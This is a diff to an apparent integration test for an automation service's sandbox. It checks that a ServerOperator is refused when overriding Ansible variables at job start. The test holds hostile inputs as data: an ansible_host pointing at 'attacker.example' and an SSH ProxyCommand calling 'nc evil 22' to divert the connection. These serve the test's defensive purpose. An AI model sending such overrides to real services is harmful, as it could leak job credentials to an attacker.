@@ -235,8 +235,11 @@ describe('run sandbox: a tenant playbook cannot reach the service, other tenants
     expect(stdout).toContain('etc-hosts-ok');
   });
 
-  it('makes the same attempts fail when a ServerOperator makes them through start-time properties', async () => {
-    expect((await admin.post('/v2/users/DEMO', { username: 'operator', password: 'operator-password', roles: ['ServerOperator'] })).status).toBe(201);
+  it("refuses Ansible's own variables at start from a ServerOperator, and contains the same attempts made by a ServerAdmin", async () => {
+    expect((await admin.post('/v2/users/DEMO', { username: 'op', password: 'operator-password', roles: ['ServerOperator'] })).status).toBe(201);
+    expect((await admin.post('/v2/users/DEMO', { username: 'operator', password: 'operator-password', roles: ['ServerAdmin'] })).status).toBe(201);
+    const runOnly = new ApiClient(stack.api.url);
+    await runOnly.login('op', 'operator-password');
     const operator = new ApiClient(stack.api.url);
     await operator.login('operator', 'operator-password');
     const marker = path.join('/tmp', `operator-${randomBytes(4).toString('hex')}`);
@@ -247,6 +250,15 @@ describe('run sandbox: a tenant playbook cannot reach the service, other tenants
       hosts: [{ id: 'web', hostVars: { ansible_host: '127.0.0.1', ansible_port: 1 } }],
     });
     expect(job.status).toBe(201);
+    // Extra vars outrank the job's: a ServerOperator could send the job's keys and passwords anywhere.
+    const executionsBefore = (await stack.db.query<{ n: number }>('SELECT count(*)::int AS n FROM executions'))[0].n;
+    for (const body of [{ properties: { ansible_host: 'attacker.example' } }, { secretProperties: { ansible_ssh_common_args: '-o ProxyCommand=nc evil 22' } }]) {
+      const refused = await runOnly.post(`/v2/automation/jobs/DEMO/${job.body.id}/start`, body);
+      expect(refused.status).toBe(403);
+      expect(refused.body.message).toMatch(/ServerAdmin/);
+    }
+    expect((await runOnly.post(`/v2/automation/jobs/DEMO/${job.body.id}/start`, { properties: { report: '/etc/hostname' } })).status).toBe(202);
+    expect((await stack.db.query<{ n: number }>('SELECT count(*)::int AS n FROM executions'))[0].n).toBe(executionsBefore + 1);
     const started = await operator.post(`/v2/automation/jobs/DEMO/${job.body.id}/start`, {
       properties: { ansible_connection: 'local', ansible_python_interpreter: '/usr/bin/python3', report: secretFile, out: marker },
     });
